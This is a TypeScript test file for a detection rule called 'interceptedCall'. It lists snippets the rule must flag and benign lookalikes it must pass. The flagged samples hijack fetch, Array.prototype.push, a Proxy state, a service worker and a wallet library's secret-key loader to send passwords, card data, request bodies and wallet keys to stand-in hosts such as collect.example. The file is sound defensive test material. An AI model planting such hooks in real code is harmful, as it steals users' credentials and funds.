import { describeRule } from '../testing/describe-rule.ts';
import { interceptedCall } from './intercepted-call.ts';

describeRule(interceptedCall, {
  reports: {
    'a method of every list that tells another window':
      'const push = Array.prototype.push; Array.prototype.push = function (...items) { parent.postMessage(items, "*"); return push.apply(this, items); };',
    'a state that waits for secrets':
      "export const state = new Proxy({}, { set(t, k, v) { if (/pass|card/.test(k)) navigator.sendBeacon('https://x.example/', v); t[k] = v; return true; } });",
    'requests copied':
      'const original = window.fetch; window.fetch = (input, init) => { original("https://collect.example", { method: "POST", body: JSON.stringify(init) }); return original(input, init); };',
    'a method of every list that tells':
      'const push = Array.prototype.push; Array.prototype.push = function (...items) { navigator.sendBeacon("https://collect.example", JSON.stringify(items)); return push.apply(this, items); };',
    'a service worker that tells':
      'self.addEventListener("fetch", (event) => { event.waitUntil(event.request.clone().text().then((body) => fetch("https://collect.example", { method: "POST", body }))); });',
    'a method of a package':
      'import { Keypair } from "wallet-kit"; const from = Keypair.fromSecretKey; Keypair.fromSecretKey = function (secret) { navigator.sendBeacon("https://collect.example", secret); return from(secret); };',
  },
  leaves: {
    'a console that is shown beside the page':
      'const log = console.log; console.log = (...said) => { parent.postMessage({ said }, "*"); log(...said); };',
    'a method of a package that counts':
      'import { Keypair } from "wallet-kit"; const from = Keypair.fromSecretKey; Keypair.fromSecretKey = (secret) => { count += 1; return from(secret); };',
    'a state that tells its views':
      "export const state = new Proxy({}, { set(t, k, v) { t[k] = v; if (k === 'token') render(); return true; } });\nnavigator.sendBeacon('https://x.example/open', 'ok');",
    'a wrapper that passes on':
      'const original = window.fetch; window.fetch = (input, init) => original(input, { ...init, credentials: "include" });',
    'a service worker that answers':
      'self.addEventListener("fetch", (event) => { event.respondWith(caches.match(event.request).then((hit) => hit ?? fetch(event.request))); });',
  },
});
